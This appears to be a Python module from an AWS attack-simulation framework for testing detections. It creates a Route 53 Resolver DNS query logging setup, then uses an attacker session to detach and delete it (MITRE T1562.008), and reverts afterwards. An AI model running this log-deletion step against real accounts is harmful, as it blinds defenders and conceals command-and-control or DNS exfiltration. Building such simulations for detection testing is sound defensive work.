"""Delete a Route 53 Resolver query logging configuration."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique


@technique
class DnsDeleteLogs(Technique):
    title = "Delete DNS query logs"
    attack = ("T1562.008",)
    expects = ("route53resolver_query_logging_deleted",)
    description = (
        "Detaches a Route 53 Resolver query logging configuration from the VPC it watches and deletes it, "
        "so DNS lookups (command and control, exfiltration over DNS) are no longer recorded."
    )

    def warmup(self, ctx: Ctx) -> Json:
        admin = ctx.admin()
        group = f"/aws/route53resolver/{ctx.res['vpc']}"
        client("logs", session=admin).create_log_group(logGroupName=group)
        r53 = client("route53resolver", session=admin)
        config = r53.create_resolver_query_log_config(
            Name="vpc-dns-queries", CreatorRequestId=ctx.run_id,
            DestinationArn=f"arn:aws:logs:{ctx.region}:{ctx.account_id}:log-group:{group}",
        )["ResolverQueryLogConfig"]["Id"]  # fmt: skip
        r53.associate_resolver_query_log_config(ResolverQueryLogConfigId=config, ResourceId=ctx.res["vpc"])
        return {"config": config, "log_group": group}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        r53 = client("route53resolver", session=ctx.attacker())
        r53.list_resolver_query_log_configs()
        associations = r53.list_resolver_query_log_config_associations(
            Filters=[{"Name": "ResolverQueryLogConfigId", "Values": [state["config"]]}]
        )["ResolverQueryLogConfigAssociations"]
        for assoc in associations:
            r53.disassociate_resolver_query_log_config(
                ResolverQueryLogConfigId=state["config"], ResourceId=assoc["ResourceId"]
            )
        r53.delete_resolver_query_log_config(ResolverQueryLogConfigId=state["config"])

    def revert(self, ctx: Ctx, state: Json) -> None:
        admin = ctx.admin()
        r53 = client("route53resolver", session=admin)
        try:
            r53.disassociate_resolver_query_log_config(
                ResolverQueryLogConfigId=state["config"], ResourceId=ctx.res["vpc"]
            )
        except r53.exceptions.ResourceNotFoundException:
            pass  # the attack detached it
        try:
            r53.delete_resolver_query_log_config(ResolverQueryLogConfigId=state["config"])
        except r53.exceptions.ResourceNotFoundException:
            pass  # the attack deleted it
        logs = client("logs", session=admin)
        try:
            logs.delete_log_group(logGroupName=state["log_group"])
        except logs.exceptions.ResourceNotFoundException:
            pass  # already gone
